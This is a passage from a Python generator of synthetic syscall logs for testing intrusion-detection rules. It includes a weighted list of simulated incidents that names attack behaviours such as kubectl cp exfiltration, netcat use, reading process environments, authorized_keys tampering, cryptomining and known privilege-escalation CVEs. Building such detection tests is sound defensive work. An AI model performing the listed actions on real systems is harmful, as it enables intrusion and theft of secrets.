    ("non_sudo_setuid", 1, i_setuid),
    ("user_mgmt", 1, i_user_mgmt),
    ("create_below_dev", 1, i_dev_create),
    ("cloud_metadata", 2, i_metadata),
    ("package_mgmt_in_container", 2, i_pkg_mgmt),
    ("nettool_in_container", 1, i_nettool_container),
    ("nettool_on_host", 1, i_nettool_host),
    ("delete_shell_history", 1, i_del_history),
    ("setuid_bit", 1, i_setuid_bit),
    ("remote_copy_in_container", 1, i_remote_copy),
    ("mount_in_privileged", 1, i_mount_priv),
    ("ingress_copy_in_container", 2, i_wget),
    ("read_proc_environ", 1, i_proc_environ),
    ("kubectl_cp_exfiltration", 1, i_kubectl_cp),
    ("authorized_keys", 1, i_authorized_keys),
    ("glibc_tunables", 1, i_glibc_tunables),
    ("backdoored_liblzma", 1, i_liblzma),
    ("bpf_prog_load", 1, i_bpf),
    # falco-sandbox_rules.yaml
    ("package_repo_update", 1, i_pkg_repo),
    ("write_binary_dir", 1, i_write_bin),
    ("write_monitored_dir", 1, i_write_monitored),
    ("write_below_etc", 3, i_write_etc),
    ("write_below_root", 1, i_write_root),
    ("write_rpm_db", 1, i_rpm_db),
    ("modify_binary_dir", 1, i_modify_bin),
    ("mkdir_binary_dir", 1, i_mkdir_bin),
    ("stratum_miner", 1, i_stratum),
    ("kubectl_in_container", 1, i_kubectl_container),
    ("sudoedit_cve", 1, i_sudo_cve),
    ("userfaultfd", 1, i_userfaultfd),
    ("pkexec_cve", 1, i_pkexec),
    ("base64_decode_in_container", 1, i_base64),
    ("interactive_recon", 4, i_recon),
    ("netcat_on_host", 1, i_netcat_host),
    ("npm_nettool", 1, i_npm_nettool),
    ("cryptominer", 1, i_miner),
    ("web_server_child", 2, i_web_child),
    ("device_access_in_container", 1, i_dev_access),
    ("host_path_in_container", 1, i_host_path),
    # near-misses (no rule should fire)
    ("nearmiss_unix_chkpwd_shadow", 8, n_chkpwd),
    ("nearmiss_bash_history", 8, n_bash_history),
    ("nearmiss_dev_null", 8, n_dev_null),
    ("nearmiss_dpkg_etc", 4, n_dpkg_etc),
    ("nearmiss_container_start", 6, i_normal_container_start),
]
INCIDENT_TOTAL = sum(w for _, w, _ in INCIDENTS)


def pick_incident(rng):
    x = rng.random() * INCIDENT_TOTAL
    for name, w, fn in INCIDENTS:
        x -= w
        if x < 0:
            return name, fn
    return INCIDENTS[-1][0], INCIDENTS[-1][2]


# ---------------------------------------------------------------------------

def generate(out, size_mb, nevents_target, seed, file_mb, incident_rate):
    rng = random.Random(seed)
    Proc.next_pid = 2000
    gen = Gen(rng, incident_rate)
    target = int(size_mb * 1024 * 1024) if size_mb else None
    file_target = max(1, int(file_mb * 1024 * 1024))
    parent = os.path.dirname(os.path.abspath(out)) or "."
    os.makedirs(parent, exist_ok=True)
    tmp = tempfile.mkdtemp(prefix=".corpus-", dir=parent)
    total = nevents = nfiles = 0
    src = gen.events()
    try:
        done = False
        while not done:
            parts, written = [], 0
            while written < file_target:
                if (target is not None and total + written >= target) or \
                        (nevents_target is not None and nevents >= nevents_target):
                    done = True
                    break
                line = next(src) + "\n"
                parts.append(line)
                written += len(line)
                nevents += 1
            if not parts:
                break
            data = "".join(parts).encode("utf-8")
            with open(os.path.join(tmp, "syscall-%03d.jsonl" % nfiles), "wb") as f:
                f.write(data)
            total += len(data)
            nfiles += 1
        # An incident cut short by the size limit is still counted: a few
        # of its events may be missing from the corpus.
        with open(os.path.join(tmp, "MANIFEST"), "w") as f:
            f.write("seed %d\nsize_mb %g\nincident_rate %g\nfiles %d\nbytes %d\nevents %d\n" %
                    (seed, size_mb or 0, incident_rate, nfiles, total, nevents))
            for k in sorted(gen.type_counts, key=lambda k: (-gen.type_counts[k], k)):
                f.write("type %s %d\n" % (k, gen.type_counts[k]))
            for k in sorted(gen.incident_counts):
                f.write("incident %s %d\n" % (k, gen.incident_counts[k]))
        if os.path.exists(out):
            shutil.rmtree(out)
        os.rename(tmp, out)
    except BaseException:
        shutil.rmtree(tmp, ignore_errors=True)
        raise
    return nfiles, total, nevents


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", help="corpus directory (replaced)")
    ap.add_argument("--size-mb", type=float, default=None, help="MiB to write (default 100)")
    ap.add_argument("--events", type=int, default=None, help="number of events to write instead")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--file-mb", type=float, default=8.0, help="MiB per NDJSON file")
    ap.add_argument("--incident-rate", type=float, default=0.001,
                    help="share of background events replaced by an incident (default 0.001)")
    ap.add_argument("--list-mix", action="store_true", help="print the event-type mix and exit")
    a = ap.parse_args()
    if a.list_mix:
        tot = sum(w for _, w in MIX)
        for t, w in sorted(MIX, key=lambda x: -x[1]):
            print("%-16s %6.2f%%" % (t, 100.0 * w / tot))
        return
    if not a.out:
        ap.error("--out is required")
    if a.size_mb is not None and a.events is not None:
        ap.error("--size-mb and --events are exclusive")
    if a.size_mb is None and a.events is None:
        a.size_mb = 100.0
    nfiles, total, nevents = generate(a.out, a.size_mb, a.events, a.seed, a.file_mb, a.incident_rate)
    print("gen_syscall_corpus: %s: %d files, %.1f MB, %d events (seed %d)" %
          (a.out, nfiles, total / 1e6, nevents, a.seed))


if __name__ == "__main__":
    main()
